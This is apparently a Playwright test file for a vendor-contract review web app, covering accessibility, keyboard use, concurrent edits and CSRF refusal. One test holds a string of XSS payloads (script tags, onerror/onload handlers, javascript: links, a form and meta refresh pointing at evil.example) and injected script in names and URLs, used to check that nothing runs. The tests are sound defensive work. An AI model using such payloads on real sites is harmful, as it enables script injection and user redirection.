"""The pages in a real Chromium: two people, keys, narrow and dark, and contracts that try to be more than text."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from vendorlint.facts.file import fact_node, read_facts
from vendorlint.project.config import find_config
from vendorlint.project.project import Project

from ..command import run_command
from ..html.conftest import RECORD_VIOLATIONS, Seen, seen
from .conftest import OWNED, TODAY, TRAINING, Site, serving

__all__ = ["seen"]  # a fixture

Open = Callable[..., Page]
FACT = f"/vendors/brightleaf?fact={TRAINING}"
SILENT = "/vendors/brightleaf?fact=suspension.without_notice"
PATIENCE = 60_000  # milliseconds: a page takes 50, but where nine others are at work
expect.set_options(timeout=PATIENCE)


@pytest.fixture
def opened(browser: Browser, seen: Seen) -> Iterator[Open]:
    """Opens a site's link in a browser of its own, then a page. At the end no page may have had an error, nor asked for anything
    but this server."""
    contexts: list[BrowserContext] = []
    sites: list[str] = []

    def open_page(site: Site, path: str = "/", by: str = "Ann", **options: object) -> Page:
        contexts.append(browser.new_context(**({"viewport": {"width": 1280, "height": 900}} | options)))
        contexts[-1].add_init_script(RECORD_VIOLATIONS)
        page = contexts[-1].new_page()
        page.set_default_timeout(PATIENCE)
        page.on("request", lambda request: seen.requests.append(request.url))
        page.on("console", lambda message: seen.errors.append(message.text))
        page.on("pageerror", lambda error: seen.errors.append(str(error)))
        sites.append(site.origin)
        contexts[-1].request.get(site.link)
        page.goto(f"{site.origin}/changes")  # which waits for no check, and so stays
        page.get_by_label("You decide as").fill(by)
        with page.expect_navigation():
            page.get_by_role("button", name="Set").click()
        page.goto(site.origin + path)
        return page

    yield open_page
    for context in contexts:
        for page in context.pages:
            assert page.evaluate("violations") == []
        context.close()
    assert [url for url in seen.requests if not url.startswith(("data:", *(f"{each}/" for each in sites)))] == []
    assert [each for each in seen.errors if "409" not in each and "422" not in each] == []


def press(page: Page, key: str) -> None:
    """A key of the page's own, once its script has run."""
    page.wait_for_load_state()
    page.keyboard.press(key)


def review(site: Site, fact: str) -> dict[str, object]:
    facts = read_facts(site.facts(), Project.of(find_config(site.root, environ={})))
    return dict((fact_node(facts.facts, fact) or {}).get("review", {}))


@pytest.fixture(scope="module")
def looked_at(made: Path) -> Iterator[Site]:
    """A site that nobody writes to."""
    with serving(made) as site:
        yield site


VIEWS = ["/", FACT, SILENT, "/vendors/brightleaf/findings", "/changes", "/vendors/nobody"]


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (400, "dark")])
@pytest.mark.parametrize("view", VIEWS)
def test_axe_finds_nothing_and_no_page_is_wider_than_the_screen(
    opened: Open, looked_at: Site, seen: Seen, view: str, width: int, scheme: str
) -> None:
    page = opened(looked_at, view, viewport={"width": width, "height": 900}, color_scheme=scheme)
    expect(page.locator("body:not([data-working])")).to_have_count(1)
    for summary in page.locator("summary").all():
        summary.click()
    assert page.evaluate("document.documentElement.scrollWidth") == width
    found = Axe().run(page).response["violations"]
    assert [(each["id"], each["nodes"][0]["html"]) for each in found if each["impact"] in {"serious", "critical"}] == []
    seen.errors[:] = [each for each in seen.errors if "404" not in each]  # of the page that there is not


def test_it_follows_the_colour_scheme(opened: Open, looked_at: Site) -> None:
    page = opened(looked_at, FACT, color_scheme="light")
    ground = "getComputedStyle(document.body).backgroundColor"
    assert page.evaluate(ground) == "rgb(246, 247, 248)"
    page.emulate_media(color_scheme="dark")
    assert page.evaluate(ground) == "rgb(20, 23, 27)"


def test_the_contract_opens_at_the_clause_and_leads_to_other_facts(opened: Open, looked_at: Site) -> None:
    page = opened(looked_at, FACT, viewport={"width": 1280, "height": 500})
    active = page.locator("mark.active")
    expect(active).to_have_text("We may use Customer Content to train our machine-learning models.")
    expect(active).to_be_in_viewport()
    expect(page.locator(".contract h4")).to_have_text("Brightleaf Terms of Service")
    expect(page.locator(".contract th")).to_have_text(["Plan", "Answer"])
    page.locator("mark a", has_text="Customer retains").first.click()
    expect(page.locator("#card-title")).to_have_text("Ownership of customer content")


def test_one_confirms_overrides_and_waives_by_keys_alone(opened: Open, site: Site) -> None:
    page = opened(site, "/vendors/brightleaf")
    title = page.locator("#card-title")
    first = title.inner_text()
    press(page, "j")
    expect(title).not_to_have_text(first)
    expect(page.locator("#keys-list")).to_be_visible()  # the script has run
    press(page, "k")
    expect(title).to_have_text(first)
    page.goto(site.origin + FACT)
    press(page, "c")
    expect(page.locator(".told")).to_have_text("Confirmed: AI training on customer content.")
    assert review(site, TRAINING) == {"status": "confirmed", "by": "Ann", "date": TODAY}

    page.goto(f"{site.origin}/vendors/brightleaf?fact={OWNED}")
    press(page, "o")
    page.keyboard.type("false")
    page.keyboard.press("Tab")
    page.keyboard.type("jock of the call")  # whose letters are keys elsewhere
    page.keyboard.press("Tab")
    page.keyboard.type("Customer retains all rights in Customer Content")
    for _ in range(2):
        page.keyboard.press("Tab")
    page.keyboard.press("Enter")  # in the note
    expect(page.locator(".told")).to_have_text("Overridden: Ownership of customer content.")
    assert (review(site, OWNED)["status"], review(site, OWNED)["reason"]) == ("overridden", "jock of the call")

    press(page, "f")
    expect(page.locator(".finding")).to_have_count(3)
    page.locator("#ai-training-opt-in summary").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.type("the pilot of 2026")
    page.locator("#ai-training-opt-in [name=until]").fill("2027-06-30")
    page.keyboard.press("Enter")
    expect(page.locator(".told")).to_have_text("ai-training-opt-in is waived until 2027-06-30.")
    expect(page.locator("p.waiver")).to_have_text("until 2027-06-30, approved by Ann: the pilot of 2026")
    press(page, "d")
    expect(page.locator("h2")).to_have_text(["vendors/brightleaf/facts.yaml", "waivers.yaml new"])
    expect(page.locator(".diff .added", has_text='reason: "jock of the call"')).to_have_count(1)


def test_keys_can_be_switched_off(opened: Open, site: Site) -> None:
    page = opened(site, FACT)
    page.get_by_label("Single keys").uncheck()
    page.locator("h1").click()
    press(page, "c")
    page.reload()
    press(page, "c")
    page.keyboard.press("Control+c")
    assert review(site, TRAINING) == {}
    page.get_by_label("Single keys").check()
    page.locator("h1").click()
    press(page, "c")
    expect(page.locator(".told")).to_have_count(1)


def test_two_people_in_two_browsers(opened: Open, site: Site) -> None:
    """Ann and Bob look at one fact; Bob's word waits until he has seen Ann's. At different facts both words stand."""
    ann, bob = opened(site, FACT, "Ann"), opened(site, FACT, "Bob")
    press(ann, "c")
    expect(ann.locator(".told")).to_have_count(1)
    press(bob, "t")
    bob.keyboard.type("only an example")
    bob.keyboard.press("Enter")
    refused = bob.locator(".refused p")
    expect(refused).to_have_text(
        [
            "Nothing was written: somebody else has changed this fact since it was shown to you.",
            "You saw: permitted: new",
            f"It is now: permitted: reviewed by Ann on {TODAY}",
            "You typed: reason: only an example",
        ]
    )
    expect(bob.locator(".refused")).to_be_focused()
    assert review(site, TRAINING)["by"] == "Ann"
    form = bob.locator("form:has([value=not-there])")
    expect(form.get_by_label("Reason")).to_have_value("only an example")
    form.get_by_role("button").click()  # having seen it
    expect(bob.locator(".told")).to_have_text("Marked as not there: AI training on customer content.")
    assert (review(site, TRAINING)["by"], review(site, TRAINING)["reason"]) == ("Bob", "only an example")

    for page, fact in ((ann, OWNED), (bob, "licence.irrevocable")):
        page.goto(f"{site.origin}/vendors/brightleaf?fact={fact}")
    for page in (ann, bob):
        press(page, "c")
        expect(page.locator(".told")).to_have_count(1)
    expect(bob.locator(".told")).to_contain_text("What others wrote to the file meanwhile is kept.")
    assert [review(site, fact)["by"] for fact in (OWNED, "licence.irrevocable")] == ["Ann", "Bob"]


def test_a_clause_is_taken_from_what_is_selected_and_from_the_closest(opened: Open, site: Site) -> None:
    page = opened(site, f"/vendors/brightleaf?fact={OWNED}")
    press(page, "o")
    page.locator("#override [name=value]").select_option("false")
    page.locator("#override [name=reason]").fill("as agreed")
    page.locator(".contract li").first.evaluate("each => getSelection().selectAllChildren(each)")
    page.get_by_role("button", name="Take what is selected").click()
    expect(page.locator("#override textarea")).to_have_value("1.1 Customer retains all rights in Customer Content.")
    page.get_by_role("button", name="Override").click()
    expect(page.locator(".told")).to_have_count(1)
    page.goto(site.origin + SILENT)
    page.get_by_role("button", name="This clause states it").first.click()
    expect(page.locator("#override textarea")).not_to_have_value("")
    page.locator("#override [name=value]").select_option("false")
    page.locator("#override [name=reason]").fill("as agreed")
    page.get_by_role("button", name="Set", exact=True).last.click()
    expect(page.locator(".told")).to_have_count(1)
    assert review(site, "suspension.without_notice")["status"] == "overridden"


def test_a_search_leaves_what_holds_its_words(opened: Open, looked_at: Site) -> None:
    page = opened(looked_at, "/vendors/brightleaf")
    press(page, "/")
    page.keyboard.type("training CUSTOMER perm")
    expect(page.locator(".facts-list li:visible")).to_have_count(1)
    page.keyboard.press("Enter")
    expect(page.locator("#card-title")).to_have_text("AI training on customer content")


def test_what_is_typed_is_not_left_behind_unasked(opened: Open, looked_at: Site) -> None:
    page = opened(looked_at, FACT)
    asked: list[str] = []
    page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.dismiss()))
    press(page, "t")
    page.keyboard.type("only an ex")
    page.locator(".tabs a").last.click(no_wait_after=True)
    expect(page.locator("form:has([value=not-there]) [name=reason]")).to_have_value("only an ex")
    page.wait_for_function("true")
    assert asked == ["beforeunload"]
    page.locator("form:has([value=not-there]) [name=reason]").fill("")


def elsewhere(page: Page, html: str) -> None:
    """Opens a page of another site."""
    page.goto("about:blank")
    page.evaluate("html => { document.documentElement.innerHTML = html; }", html)


def test_the_link_works_from_another_site_and_a_form_of_one_does_not(browser: Browser, site: Site) -> None:
    """A webmail leads here; a form that it sends carries no cookie, and decides nothing."""
    before = site.facts().read_bytes()
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    elsewhere(page, f'<a href="{site.link}">the link</a>')
    page.get_by_role("link").click()
    expect(page.locator("h1")).to_have_text("2 vendors")
    assert page.url == f"{site.origin}/"
    csrf = page.locator("[name=csrf]").first.get_attribute("value")
    fields = {"csrf": csrf, "action": "confirm", "shown": "", "facts": ""}
    inputs = "".join(f'<input name="{name}" value="{value}">' for name, value in fields.items())
    address = f"{site.origin}/vendors/brightleaf/facts/{TRAINING}"
    page = context.new_page()  # the list reloads itself while somebody goes elsewhere
    page.set_default_timeout(PATIENCE)
    elsewhere(page, f'<form method="post" action="{address}">{inputs}<button>Win</button></form>')
    page.get_by_role("button").click()
    expect(page.locator("body")).to_contain_text("Open the link that 'vendorlint serve' has printed")
    assert site.facts().read_bytes() == before
    page.goto(f"{site.origin}/")  # the cookie is still there, for pages of the site's own
    expect(page.locator("h1")).to_have_text("2 vendors")
    context.close()


def test_a_window_of_middling_width_scrolls_the_contract_alone(opened: Open, looked_at: Site) -> None:
    page = opened(looked_at, FACT, viewport={"width": 1000, "height": 420})
    expect(page.locator("mark.active")).to_be_in_viewport()
    assert page.evaluate("scrollY") == 0
    expect(page.get_by_role("button", name="Confirm")).to_be_in_viewport()


HOSTILE = """\
# Terms <script>window.ran = true</script>

We may use <img src=x onerror="window.ran=true"> Customer Content to train our models. <svg onload="window.ran=true">

[Read](javascript:window.ran=true) ![pixel](https://tracker.example/pixel.png) <style>body{display:none}</style>

</div></section><form action="https://evil.example"><input name=csrf></form> <meta http-equiv="refresh" content="0;url=https://evil.example">

Hidden \u202e words \u200b here, and you keep all rights in Customer Content.
"""


def test_a_contract_is_text_whatever_it_holds(opened: Open, repository: Path) -> None:
    folder = repository / "vendors" / "evil"
    folder.mkdir()
    (folder / "terms.md").write_text(HOSTILE)
    (folder / "vendor.yaml").write_text(
        'version: 1\nname: "<script>window.ran=true</script>"\nowner: "<b onclick=x>"\n'
    )
    assert run_command("extract", "evil", cwd=repository, environ={}).code == 0
    word = "'\"><script>window.ran=true</script>"
    run_command(
        "review",
        "evil",
        "--leave",
        TRAINING,
        "--by",
        word,
        "--assign",
        word,
        "--note",
        word,
        cwd=repository,
        environ={},
    )
    with serving(repository) as site:
        page = opened(site, "/changes", by=word)  # which waits for no check
        page.route("**/checked", lambda _: None)  # so that no page is loaded anew while another is asked for
        for path in ("/", f"/vendors/evil?fact={TRAINING}", "/vendors/evil?fact=%22%3E%3Cscript%3Ewindow.ran=true%3C/script%3E&for=%22%3E%3Cscript%3E", "/vendors/evil/findings", "/changes"):  # fmt: skip
            page.goto(site.origin + path)
            expect(page.locator("body")).to_be_visible()
            assert page.evaluate("window.ran") is None
            assert (
                page.locator(
                    "main script, main style, main img, main svg, main meta, main input:not([name]):not([id])"
                ).count()
                == 0
            )
            assert page.locator("form:not([action^='/'])").count() == 0
            assert page.locator("main a:not([href^='/']):not([href^='#'])").count() == 0
            assert "\u202e" not in page.content()
        page.goto(f"{site.origin}/vendors/evil?fact={TRAINING}")
        expect(page.locator("h1")).to_have_text("<script>window.ran=true</script>")
        expect(page.locator(".review dd").first).to_contain_text(word)
        press(page, "n")
        page.get_by_role("button", name="Leave open").click()
        expect(page.locator(".told")).to_have_count(1)
    facts = read_facts(folder / "facts.yaml", Project.of(find_config(repository, environ={})))
    assert (fact_node(facts.facts, TRAINING) or {})["review"]["assigned_to"] == word


def test_a_page_that_waits_for_a_check_takes_away_nothing_that_is_typed(opened: Open, site: Site) -> None:
    page = opened(site, "/changes")
    waiver = site.root / "waivers.yaml"
    waiver.write_text("version: 1\nwaivers: []\n")  # so that all is checked again
    held: list[Route] = []  # the question whether all is checked, which is asked once something is typed
    page.route("**/checked", lambda route: held.append(route))  # noqa: PLW0108 - it marks what it is given
    with page.expect_request("**/checked"):
        page.goto(f"{site.origin}/")
    page.get_by_label("You decide as").fill("Bob of Legal")
    with page.expect_response("**/checked"):
        held[0].continue_()
    expect(page.get_by_label("You decide as")).to_have_value("Bob of Legal")
    page.get_by_role("button", name="Set").click()
    page.wait_for_load_state()
    expect(page.get_by_label("You decide as")).to_have_value("Bob of Legal")


def test_a_check_that_is_done_shows_on_its_own(opened: Open, site: Site) -> None:
    page = opened(site, "/")
    expect(page.locator(".tally").first).to_be_visible()
    page.goto(f"{site.origin}/vendors/brightleaf/findings")
    expect(page.locator(".finding").first).to_be_visible()
